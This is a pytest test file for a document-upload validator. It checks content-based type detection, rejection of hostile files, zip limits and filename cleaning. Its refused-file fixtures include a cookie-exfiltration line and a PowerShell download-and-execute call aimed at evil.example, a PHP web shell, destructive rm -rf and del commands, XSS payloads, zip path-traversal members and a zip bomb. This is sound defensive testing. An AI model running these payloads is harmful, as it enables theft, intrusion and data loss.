"""Uploads are judged by their content, never by their name (DESIGN §7).

All fixtures are built here in memory; no database is needed.
"""

import dataclasses
import io
import struct
import zipfile

import pytest
from PIL import Image
from reportlab.pdfgen import canvas

from claimbridge.documents.validation import (
    DetectedType,
    RejectedFile,
    check_upload,
    clean_filename,
    detect_file_type,
)

MB = 1024 * 1024

# --- Builders -----------------------------------------------------------------


def make_pdf() -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, "Rechnung 17 - offener Betrag 1.234,56 EUR")
    page.save()
    return buffer.getvalue()


def make_image(image_format: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(buffer, format=image_format)
    return buffer.getvalue()


def make_zip(members, *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """members: (name or ZipInfo, data) pairs, written in this order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for member, data in members:
            archive.writestr(member, data)
    return buffer.getvalue()


DOCX_MAIN = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
XLSB_MAIN = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
PPTX_MAIN = (
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
)


def content_types(part: str, main_type: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main_type}"/>'
        "</Types>"
    ).encode()


RELS = b'<?xml version="1.0"?><Relationships xmlns="x"/>'


def make_docx(main_type=DOCX_MAIN, extra=()) -> bytes:
    return make_zip(
        [
            ("[Content_Types].xml", content_types("word/document.xml", main_type)),
            ("_rels/.rels", RELS),
            ("word/document.xml", b"<w:document/>"),
            *extra,
        ]
    )


def make_xlsx(main_type=XLSX_MAIN, extra=(), workbook="xl/workbook.xml") -> bytes:
    return make_zip(
        [
            ("[Content_Types].xml", content_types(workbook, main_type)),
            ("_rels/.rels", RELS),
            (workbook, b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", b"<worksheet/>"),
            *extra,
        ]
    )


OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
NO_STREAM = 0xFFFFFFFF
END_OF_CHAIN = 0xFFFFFFFE
STORAGE, STREAM, ROOT = 1, 2, 5


def ole_entry(name, kind, left=NO_STREAM, right=NO_STREAM, child=NO_STREAM):
    raw = name.encode("utf-16-le") + b"\x00\x00"
    return struct.pack(
        "<64sHBBIII16sIQQIQ",
        raw,
        len(raw),
        kind,
        1,
        left,
        right,
        child,
        b"",
        0,
        0,
        0,
        END_OF_CHAIN,
        0,
    )


def make_ole(entries) -> bytes:
    """A minimal compound file: sector 0 is the FAT, then the directory.

    entries: (name, kind, left, right, child) tuples; entry 0 is the root.
    Stream names are stored UTF-16LE, as Word and Excel write them.
    """
    directory = b"".join(ole_entry(*entry) for entry in entries)
    directory += bytes(-len(directory) % 512)
    dir_sectors = len(directory) // 512
    fat = [0xFFFFFFFD] + list(range(2, dir_sectors + 1)) + [END_OF_CHAIN]
    fat += [NO_STREAM] * (128 - len(fat))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        OLE_MAGIC,
        b"",
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"",
        0,
        1,
        1,
        0,
        4096,
        END_OF_CHAIN,
        0,
        END_OF_CHAIN,
        0,
    )
    header += struct.pack("<109I", 0, *[NO_STREAM] * 108)
    return header + struct.pack("<128I", *fat) + directory


def ole_with(*children) -> bytes:
    """A compound file whose root holds the given (name, kind) entries."""
    entries = [("Root Entry", ROOT, NO_STREAM, NO_STREAM, 1)]
    for index, (name, kind) in enumerate(children, start=1):
        right = index + 1 if index < len(children) else NO_STREAM
        entries.append((name, kind, NO_STREAM, right, NO_STREAM))
    return make_ole(entries)


def detect(data: bytes, name: str = "upload.bin") -> DetectedType:
    return detect_file_type(io.BytesIO(data), name=name)


def rejection(data: bytes, name: str = "upload.bin") -> RejectedFile:
    with pytest.raises(RejectedFile) as caught:
        detect(data, name)
    return caught.value


GERMAN_LETTER = (
    "Sehr geehrte Damen und Herren,\n\n"
    "bitte überweisen Sie den offenen Betrag von 1.234,56 € bis zum 15. März.\n\n"
    "Mit freundlichen Grüßen\nMüller GmbH\n"
)
EML = (
    b"Return-Path: <anna@example.com>\r\n"
    b"From: Anna Beispiel <anna@example.com>\r\n"
    b"To: inkasso@example.org\r\n"
    b"Subject: =?utf-8?q?Rechnung_17?=\r\n"
    b"Date: Mon, 3 Mar 2025 10:00:00 +0100\r\n"
    b"Message-ID: <17@example.com>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"\r\n"
    b"Hallo,\r\nanbei die Rechnung.\r\n"
)

# --- Accepted types -------------------------------------------------------------

ACCEPTED = {
    "pdf from reportlab": (make_pdf(), "pdf"),
    "minimal pdf": (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "pdf"),
    "docx": (make_docx(), "docx"),
    "xlsx": (make_xlsx(), "xlsx"),
    "doc": (ole_with(("WordDocument", STREAM), ("\x01CompObj", STREAM)), "doc"),
    "xls (BIFF8)": (ole_with(("Workbook", STREAM)), "xls"),
    "xls (BIFF5)": (ole_with(("Book", STREAM)), "xls"),
    "jpeg": (make_image("JPEG"), "jpg"),
    "png": (make_image("PNG"), "png"),
    "utf-8 text": (GERMAN_LETTER.encode(), "txt"),
    "utf-8 text with BOM": (b"\xef\xbb\xbf" + GERMAN_LETTER.encode(), "txt"),
    "windows-1252 text": (GERMAN_LETTER.encode("cp1252"), "txt"),
    "cyrillic text": (
        "Счёт №17 на сумму 12 500 ₽\nОплатить до 1 мая\n".encode(),
        "txt",
    ),
    "text starting with the letters MZ": (b"MZ Logistik GmbH\nRechnung 17\n", "txt"),
    "csv with semicolons": (
        b"Rechnungsnummer;Datum;Betrag\nR-1;01.03.2025;1.234,56\n"
        b"R-2;02.03.2025;99,00\n",
        "csv",
    ),
    "csv with commas and quotes": (
        b'name,amount\n"M\xc3\xbcller, Hans",12.50\n"Schmidt",7\n',
        "csv",
    ),
    "csv with tabs": (b"Konto\tBetrag\n1200\t10,00\n8400\t-10,00\n", "csv"),
    "csv with a metadata line (DATEV)": (
        b'"EXTF";700;21;"Buchungsstapel";12\n'
        b"Umsatz;Soll/Haben;Konto;Gegenkonto;Datum\n"
        b"100,00;S;1200;8400;0103\n"
        b"50,00;H;1200;8400;0203\n",
        "csv",
    ),
    "eml": (EML, "eml"),
    "eml with an mbox line and folded headers": (
        b"From anna@example.com Mon Mar  3 10:00:00 2025\n"
        b"Received: from mx.example.com\n\tby mail.example.org; Mon, 3 Mar 2025\n"
        b"Subject: Mahnung\n\nText\n",
        "eml",
    ),
    "eml with an HTML body": (
        b"From: a@example.com\nSubject: x\nContent-Type: text/html\n\n"
        b"<html><body><p>Hallo</p></body></html>\n",
        "eml",
    ),
    "zip": (
        make_zip([("rechnungen/r17.pdf", make_pdf()), ("notiz.txt", b"Hallo")]),
        "zip",
    ),
    "zip of office files": (make_zip([("a.docx", make_docx())]), "zip"),
}

CONTENT_TYPES = {
    "pdf": "application/pdf",
    "doc": "application/msword",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "xls": "application/vnd.ms-excel",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "jpg": "image/jpeg",
    "png": "image/png",
    "txt": "text/plain",
    "csv": "text/csv",
    "eml": "message/rfc822",
    "zip": "application/zip",
}


@pytest.mark.parametrize(("data", "extension"), ACCEPTED.values(), ids=ACCEPTED)
def test_accepted_types_are_detected_from_content(data, extension):
    assert detect(data) == DetectedType(extension, CONTENT_TYPES[extension])


@pytest.mark.parametrize("name", ["x.pdf", "x.exe", "x.svg", "x", "../x.html"])
def test_the_name_does_not_change_the_type(name):
    assert detect(make_docx(), name).extension == "docx"
    assert detect(GERMAN_LETTER.encode(), name).extension == "txt"


def test_word_document_embedding_a_workbook_is_a_doc():
    # An embedded Excel sheet lives in a sub-storage, not at the root.
    data = make_ole(
        [
            ("Root Entry", ROOT, NO_STREAM, NO_STREAM, 1),
            ("WordDocument", STREAM, NO_STREAM, 2, NO_STREAM),
            ("ObjectPool", STORAGE, NO_STREAM, NO_STREAM, 3),
            ("Workbook", STREAM, NO_STREAM, NO_STREAM, NO_STREAM),
        ]
    )
    assert detect(data).extension == "doc"


@pytest.mark.parametrize(
    ("text", "extension"),
    [
        # 64 KB are sniffed; the cut may fall inside a multi-byte character.
        ("x" + "ä" * 40_000, "txt"),
        ("xy" + "€" * 30_000, "txt"),
        ("Konto;Betrag\n" + "1200;10,00\n" * 10_000, "csv"),
    ],
)
def test_long_text_is_judged_by_its_start(text, extension):
    assert len(text.encode()) > 64 * 1024
    assert detect(text.encode()).extension == extension


def test_prose_with_some_commas_is_text_not_csv():
    text = "Hallo Frau Beispiel,\nwie besprochen, anbei die Unterlagen.\nGruß\nTim\n"
    assert detect(text.encode()).extension == "txt"


def test_headers_followed_by_prose_are_not_an_email():
    assert detect(b"Subject: Zahlungsplan\nBitte zahlen Sie.\n").extension == "txt"


@pytest.mark.parametrize("start", [0, 5])
def test_position_is_reset_to_the_start(start):
    fileobj = io.BytesIO(make_pdf())
    fileobj.seek(start)
    assert detect_file_type(fileobj, name="x.pdf").extension == "pdf"
    assert fileobj.tell() == 0


def test_position_is_reset_after_a_rejection():
    fileobj = io.BytesIO(b"\x7fELF\x02\x01\x01" + bytes(57))
    with pytest.raises(RejectedFile):
        detect_file_type(fileobj, name="kontoauszug.xlsx")
    assert fileobj.tell() == 0


def test_detected_type_is_frozen():
    detected = detect(make_pdf())
    with pytest.raises(dataclasses.FrozenInstanceError):
        detected.extension = "exe"


# --- Refused types --------------------------------------------------------------

PE_HEADER = (
    b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(64)
)
ZIP_MEMBER_SYMLINK = zipfile.ZipInfo("link-to-etc")
ZIP_MEMBER_SYMLINK.create_system = 3
ZIP_MEMBER_SYMLINK.external_attr = 0o120777 << 16

REFUSED = {
    # markup
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "markup"),
    "svg with xml prolog": (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
        "markup",
    ),
    "svg without spaces": (b"<svg/onload=alert(1)>", "markup"),
    "html": (
        b"<!doctype html><html><body><script>alert(document.domain)</script>"
        b"Rechnung</body></html>",
        "markup",
    ),
    "html with BOM and blank lines": (
        b"\xef\xbb\xbf\r\n  <HTML><BODY>Rechnung</BODY></HTML>",
        "markup",
    ),
    "html fragment": (b"<p>Rechnung</p>", "markup"),
    "script tag after a line of text": (
        b"Rechnung 17\n<script>alert(1)</script>\n",
        "markup",
    ),
    "xml": (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<Invoice xmlns="urn:x"/>',
        "markup",
    ),
    "xml without prolog": (b'<rsm:CrossIndustryInvoice xmlns:rsm="urn:x">', "markup"),
    # scripts
    "shell script": (b"#!/bin/sh\nrm -rf ~\n", "script"),
    "shebang after blank line": (b"\n#!/usr/bin/env python3\nprint(1)\n", "script"),
    "javascript": (
        b"function pay(amount) {\n  var total = amount * 2;\n  return total;\n}\n"
        b"alert(pay(1));\n",
        "script",
    ),
    "javascript one-liner": (
        b"fetch('https://evil.example/?c=' + document.cookie)\n",
        "script",
    ),
    "vbscript": (
        b'Set shell = CreateObject("WScript.Shell")\nshell.Run "calc.exe"\n',
        "script",
    ),
    "batch": (b"@echo off\r\ndel /q C:\\*\r\n", "script"),
    "powershell": (
        b"$client = New-Object System.Net.WebClient\n"
        b"Invoke-Expression $client.DownloadString('http://evil.example/x')\n",
        "script",
    ),
    "php": (b"<?php system($_GET['c']); ?>", "script"),
    # executables
    "elf": (b"\x7fELF\x02\x01\x01\x00" + bytes(56), "executable"),
    "pe": (PE_HEADER, "executable"),
    "dos mz": (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", "executable"),
    "mach-o": (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24), "executable"),
    "java archive": (
        make_zip([("META-INF/MANIFEST.MF", b"Main-Class: X\n"), ("X.class", b"")]),
        "executable",
    ),
    # macros and encryption
    "xlsm with vbaProject.bin": (
        make_xlsx(XLSM_MAIN, extra=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
        "macros",
    ),
    "xlsx type with vbaProject.bin": (
        make_xlsx(extra=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
        "macros",
    ),
    "docm with vbaProject.bin": (
        make_docx(DOCM_MAIN, extra=[("word/vbaProject.bin", b"")]),
        "macros",
    ),
    "docm type without vbaProject.bin": (make_docx(DOCM_MAIN), "macros"),
    "doc with macros": (
        ole_with(("WordDocument", STREAM), ("Macros", STORAGE)),
        "macros",
    ),
    "xls with macros": (
        ole_with(("Workbook", STREAM), ("_VBA_PROJECT_CUR", STORAGE)),
        "macros",
    ),
    "password-protected xlsx": (
        ole_with(("EncryptionInfo", STREAM), ("EncryptedPackage", STREAM)),
        "encrypted",
    ),
    # zip paths
    "zip with ../ member": (make_zip([("../evil.sh", b"x")]), "zip_unsafe_path"),
    "zip with inner ../": (
        make_zip([("docs/../../evil.sh", b"x")]),
        "zip_unsafe_path",
    ),
    "zip with absolute member": (make_zip([("/etc/passwd", b"x")]), "zip_unsafe_path"),
    "zip with ..\\ member": (
        make_zip([("..\\..\\evil.bat", b"x")]),
        "zip_unsafe_path",
    ),
    "zip with drive path": (
        make_zip([("C:\\Windows\\evil.dll", b"x")]),
        "zip_unsafe_path",
    ),
    "zip with UNC path": (
        make_zip([("\\\\server\\share\\x", b"x")]),
        "zip_unsafe_path",
    ),
    "zip with symlink": (
        make_zip([(ZIP_MEMBER_SYMLINK, b"/etc/passwd")]),
        "zip_unsafe_path",
    ),
    "docx with ../ member": (
        make_docx(extra=[("../evil.sh", b"x")]),
        "zip_unsafe_path",
    ),
    "zip with too many members": (
        make_zip([(f"f{i}.txt", b"") for i in range(1001)], compression=0),
        "zip_too_many_members",
    ),
    "empty zip": (b"PK\x05\x06" + bytes(18), "zip_empty"),
    "broken zip": (b"PK\x03\x04" + b"\x14\x00" * 20, "damaged"),
    # other not accepted types
    "empty": (b"", "empty"),
    "gif": (make_image("GIF"), "not_accepted"),
    "binary with NUL bytes": (bytes(range(256)) * 4, "not_accepted"),
    "text with escape codes": (b"Rechnung \x1b[31mrot\x1b[0m\n", "not_accepted"),
    "utf-16 text": ("Rechnung 17\n".encode("utf-16"), "not_accepted"),
    "rtf": (b"{\\rtf1\\ansi Rechnung}", "not_accepted"),
    "postscript": (b"%!PS-Adobe-3.0\n", "not_accepted"),
    "xlsb": (make_xlsx(XLSB_MAIN, workbook="xl/workbook.bin"), "not_accepted"),
    "pptx": (
        make_zip(
            [
                (
                    "[Content_Types].xml",
                    content_types("ppt/presentation.xml", PPTX_MAIN),
                ),
                ("ppt/presentation.xml", b"<p/>"),
            ]
        ),
        "not_accepted",
    ),
    "ods": (
        make_zip(
            [
                ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                ("content.xml", b"<office:document-content/>"),
            ],
            compression=0,
        ),
        "not_accepted",
    ),
    "powerpoint 97": (ole_with(("PowerPoint Document", STREAM)), "not_accepted"),
    "damaged compound file": (OLE_MAGIC + bytes(100), "damaged"),
}


@pytest.mark.parametrize(("data", "code"), REFUSED.values(), ids=REFUSED)
def test_hostile_and_unknown_files_are_refused(data, code):
    assert rejection(data).code == code


def test_html_named_pdf_is_refused_with_a_readable_message():
    error = rejection(b"<!doctype html><script>alert(1)</script>", "Rechnung.pdf")
    assert isinstance(error, ValueError)
    assert error.code == "markup"
    assert str(error) == (
        "“Rechnung.pdf” contains HTML, XML or SVG markup. Such files are not accepted."
    )


def test_message_shows_the_cleaned_name():
    error = rejection(b"GIF89a\x00\x00", "../../a\x00b<c>.gif")
    assert str(error) == (
        "“abc.gif” is not an accepted file type. Accepted: PDF, Word, Excel, "
        "JPEG, PNG, text, CSV, e-mail (.eml) and ZIP."
    )


def zip_of_zeros(size: int) -> bytes:
    """Streams `size` zero bytes into one deflated member (memory stays small)."""
    buffer = io.BytesIO()
    chunk = bytes(MB)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as member:
            remaining = size
            while remaining:
                member.write(chunk[: min(remaining, MB)])
                remaining -= min(remaining, MB)
    return buffer.getvalue()


def test_zip_bomb_over_the_default_limit_is_refused():
    # 260 MB of zeros pack into about 260 KB; the limit is 10 x 25 MB.
    data = zip_of_zeros(260 * MB)
    assert len(data) < MB
    error = rejection(data, "rechnungen.zip")
    assert error.code == "zip_too_large_unpacked"
    assert "250 MB" in str(error)


@pytest.mark.parametrize(("unpacked", "accepted"), [(9_000, True), (10_001, False)])
def test_zip_unpacked_limit_follows_the_setting(settings, unpacked, accepted):
    settings.DOCUMENT_MAX_BYTES = 1_000
    data = make_zip([("zeros.bin", bytes(unpacked))])
    if accepted:
        assert detect(data).extension == "zip"
    else:
        assert rejection(data).code == "zip_too_large_unpacked"


# --- check_upload -----------------------------------------------------------------


def test_check_upload_accepts_a_file_within_the_limit(settings):
    settings.DOCUMENT_MAX_BYTES = MB
    data = b"a;b\n" + b"1;2\n" * (MB // 4 - 1)
    assert len(data) == MB
    detected = check_upload(io.BytesIO(data), name="liste.csv", size=len(data))
    assert detected == DetectedType("csv", "text/csv")


@pytest.mark.parametrize(("limit", "shown"), [(MB, "1"), (25 * MB, "25")])
def test_check_upload_refuses_a_file_over_the_limit(settings, limit, shown):
    settings.DOCUMENT_MAX_BYTES = limit
    data = b"%PDF-1.4\n" + bytes(limit)
    with pytest.raises(RejectedFile) as caught:
        check_upload(io.BytesIO(data), name="scan.pdf", size=len(data))
    assert caught.value.code == "too_large"
    assert str(caught.value) == (
        f"“scan.pdf” is larger than {shown} MB, the largest file accepted."
    )


def test_check_upload_measures_the_stream_not_only_the_claimed_size(settings):
    settings.DOCUMENT_MAX_BYTES = 1_000
    with pytest.raises(RejectedFile) as caught:
        check_upload(io.BytesIO(bytes(2_000)), name="x.pdf", size=10)
    assert caught.value.code == "too_large"


def test_check_upload_refuses_an_empty_file():
    with pytest.raises(RejectedFile) as caught:
        check_upload(io.BytesIO(b""), name="leer.pdf", size=0)
    assert caught.value.code == "empty"
    assert str(caught.value) == "“leer.pdf” is empty."


def test_check_upload_detects_the_type():
    fileobj = io.BytesIO(EML)
    detected = check_upload(fileobj, name="mail.txt", size=len(EML))
    assert detected == DetectedType("eml", "message/rfc822")
    assert fileobj.tell() == 0


def test_check_upload_still_refuses_hostile_content():
    with pytest.raises(RejectedFile) as caught:
        check_upload(io.BytesIO(PE_HEADER), name="kontoauszug.xlsx", size=136)
    assert caught.value.code == "executable"


# --- clean_filename ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Zahlungsbestätigung.pdf", "Zahlungsbestätigung.pdf"),
        ("счёт №17.pdf", "счёт №17.pdf"),
        ("請求書.pdf", "請求書.pdf"),
        ("../../x.pdf", "x.pdf"),
        ("..\\..\\x.pdf", "x.pdf"),
        ("/etc/passwd", "passwd"),
        ("C:\\Users\\anna\\Desktop\\Rechnung 17.pdf", "Rechnung 17.pdf"),
        ("Zahlungsbesta\u0308tigung.pdf", "Zahlungsbestätigung.pdf"),  # NFD -> NFC
        ('a<b>c:d"e|f?g*h\x00.pdf', "abcdefgh.pdf"),
        ("line\nbreak\tand  spaces .pdf", "line break and spaces .pdf"),
        ("bell\x07\x1b[31m.pdf", "bell[31m.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # right-to-left override
        (".htaccess", "htaccess"),
        ("  . .hidden.pdf", "hidden.pdf"),
        ("trailing.pdf. . ", "trailing.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("dir/", "dir"),
        ("", "file"),
        ("...", "file"),
        ("../..", "file"),
        ("\x00\x01", "file"),
        ("Rechnung 17 (Kopie).PDF", "Rechnung 17 (Kopie).PDF"),
        ("empty#hash.pdf", "empty#hash.pdf"),
    ],
)
def test_clean_filename(name, expected):
    assert clean_filename(name) == expected


def test_clean_filename_shortens_long_names_keeping_the_extension():
    cleaned = clean_filename("ä" * 300 + ".pdf")
    assert cleaned == "ä" * 196 + ".pdf"
    assert len(cleaned) == 200
    assert clean_filename("x" * 300) == "x" * 200
